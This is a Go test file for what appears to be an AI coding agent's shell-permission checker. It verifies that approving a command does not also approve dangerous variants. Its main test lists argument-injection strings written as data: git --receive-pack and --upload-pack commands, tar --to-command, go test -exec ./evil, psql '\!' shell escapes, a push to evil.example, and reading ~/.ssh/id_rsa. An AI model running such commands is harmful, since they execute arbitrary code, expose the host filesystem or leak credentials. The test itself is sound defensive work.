//go:build unix

package permission_test

import (
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/adze-dev/adze/permission"
	"github.com/adze-dev/adze/tool"
)

// Each row of prefixes.txt: the rule is offered, allows the example and not the counter-example, and is shown with what else
// it allows.
func TestPrefixes(t *testing.T) {
	text, err := os.ReadFile("prefixes.txt")
	if err != nil {
		t.Fatal(err)
	}
	rows := 0
	for line := range strings.Lines(string(text)) {
		if line[0] == '#' {
			continue
		}
		rows++
		f := strings.Split(strings.TrimSpace(line), " | ")
		words, example, counter := f[0], f[1], f[2]
		if len(f) != 3 || !strings.HasPrefix(example, words+" ") || strings.HasPrefix(counter+" ", words+" ") {
			t.Errorf("not WORDS | EXAMPLE | COUNTER-EXAMPLE: %s", line)
		}
		rule := "Shell(" + words + ":*)"
		judge := func(line string, allow ...string) tool.Decision {
			d, _ := permission.Check(plainWorld(), parse(t, allow, nil, nil), permission.Default, permission.Options{OnlyRules: true}, commandRequest(line))
			return d
		}
		d := permission.New(plainWorld(), permission.Default).Judge(commandRequest(words))
		if d.Verdict == tool.Ask && !slices.Equal(d.Offer, []string{"Shell(" + words + ")", rule}) {
			t.Errorf("%s: offers %q", words, d.Offer)
		}
		if before, after := judge(example), judge(example, rule); before.Verdict != tool.Ask || after.Verdict != tool.Allow {
			t.Errorf("%s: %v, with %s %v", example, before.Verdict, rule, after.Verdict)
		}
		if d := judge(counter, rule); d.Verdict != tool.Ask {
			t.Errorf("%s with %s: %v", counter, rule, d.Verdict)
		}
		if got := permission.Extent(rule); got != "also allows "+example {
			t.Errorf("%s: %q", rule, got)
		}
	}
	if rows < 10 {
		t.Errorf("%d rows", rows)
	}
}

// Approving a command for the session used to allow further words, with which it runs any program: 40 of 62 everyday
// commands. Now a command that differs in a word, or that reads a program from its input, requires approval again.
func TestApprovedWordsAreExact(t *testing.T) {
	for approved, others := range map[string][]string{
		"git push origin main":   {"git push --receive-pack='touch x;:' .", "git push origin main --receive-pack=./evil", "git push https://evil.example HEAD"},
		"git fetch":              {"git fetch --upload-pack='touch x;:' ."},
		"git clone https://a/b":  {"git clone https://a/b -u ./evil", "git clone https://a/b -c core.fsmonitor=./evil"},
		"git rebase main":        {"git rebase main --exec ./evil", "git rebase main -x ./evil"},
		"git commit -m x":        {"git commit -m x -F ~/.ssh/id_rsa"},
		"tar xf a.tar":           {"tar xf a.tar --to-command=./evil", "tar xf a.tar -C /"},
		"make test":              {"make test --eval='$(shell touch x)'", "make test SHELL=./evil", "make test -C /tmp/evil"},
		"go test ./...":          {"go test -exec ./evil ./...", "go test ./... -toolexec ./evil", "go test"},
		"go vet ./...":           {"go vet -vettool=./evil ./..."},
		"cargo build":            {"cargo build --config 'build.rustc-wrapper=\"./evil\"'"},
		"npm test":               {"npm test --script-shell=./evil", "npm run test"},
		"npm run build":          {"npm run build --script-shell=./evil", "npm run other"},
		"pytest -q":              {"pytest -q -p evil", "pytest"},
		"python3 x.py":           {"python3 x.py --evil", "python3 -c 1 x.py", "python3"},
		"python3 -m pytest":      {"python3 -m pytest -p evil"},
		"sh ./check.sh":          {"sh ./check.sh evil", "sh -x ./check.sh"},
		"./run.sh":               {"./run.sh evil"},
		"docker run x":           {"docker run x -v /:/h", "docker run -v /:/h x"},
		"docker ps":              {"docker ps; docker run x", "docker -H tcp://x ps", "docker ps > f", "docker ps $(evil)"},
		"kubectl get pods":       {"kubectl get pods --kubeconfig=evil"},
		"gcc -o x x.c":           {"gcc -o x x.c -wrapper ./evil"},
		"cmake -B build":         {"cmake -B build -P evil.cmake"},
		"psql -c 'select 1'":     {"psql -c 'select 1' -c '\\! touch x'"},
		"sqlite3 db 'select 1'":  {"sqlite3 db 'select 1' '.shell touch x'"},
		"mkdir x":                {"mkdir x /etc/y"},
		"psql db":                {"echo '\\! touch x' | psql db", "psql db <<< '\\! touch x'", "psql db < x.sql"},
		"python3 -":              {"echo evil | python3 -", "python3 - <<< evil", "python3 - 0<<< evil", "echo evil | { python3 -; }", "echo evil | nice python3 -"},
		"sqlite3 db":             {"{ sqlite3 db; } <<< '.shell touch x'", "for i in 1; do sqlite3 db; done <<< x"},
		"echo a | tee x":         {"echo a | tee y", "echo a | tee x y"},
		"bash -c 'python3 x.py'": {"bash -c 'python3 x.py --evil'", "bash -c 'python3 x.py; evil'"},
		"docker compose up -d":   {"docker compose -f evil.yml up -d", "docker compose down"},
	} {
		p := permission.New(plainWorld(), permission.Default)
		r := commandRequest(approved)
		for _, offer := range p.Judge(r).Offer {
			if !p.Remember(r, offer) {
				t.Errorf("%s: %q is not remembered", approved, offer)
			}
		}
		if d := p.Judge(r); d.Verdict != tool.Allow {
			t.Errorf("%s: %v after it was approved", approved, d.Verdict)
		}
		for _, line := range others {
			if d := p.Judge(commandRequest(line)); d.Verdict != tool.Ask {
				t.Errorf("%s was approved: %s: %v", approved, line, d.Verdict)
			}
		}
	}
}

func TestWideRules(t *testing.T) {
	shell := tool.Declaration{Name: "run_shell_command", DisplayName: "Shell", Kind: tool.Execute}
	allow := []string{
		"Shell(git push:*)", "Shell(git push)", "Shell(git status *)", "Shell", "Bash(*)", "Shell(docker ps:*)", "Shell(docker ps -a:*)", "Shell(docker:*)",
		"Shell(ls:*)", "Edit(/**)", "run_shell_command", "run_shell_command(make:*)", "ShellTool(npm)", "other__tool", "WebFetch", "Read(x)",
	}
	var got []string
	for _, u := range policy(t, plainWorld(), permission.Default, allow, nil, []string{"Shell(rm:*)"}).Wide([]tool.Declaration{shell}) {
		got = append(got, u.Text)
	}
	want := []string{
		"Shell(git push:*)", "Shell(git status *)", "Shell", "Bash(*)", "Shell(docker:*)", "run_shell_command", "run_shell_command(make:*)", "ShellTool(npm)",
	}
	if !slices.Equal(got, want) {
		t.Errorf("wide rules %q, want %q", got, want)
	}
}
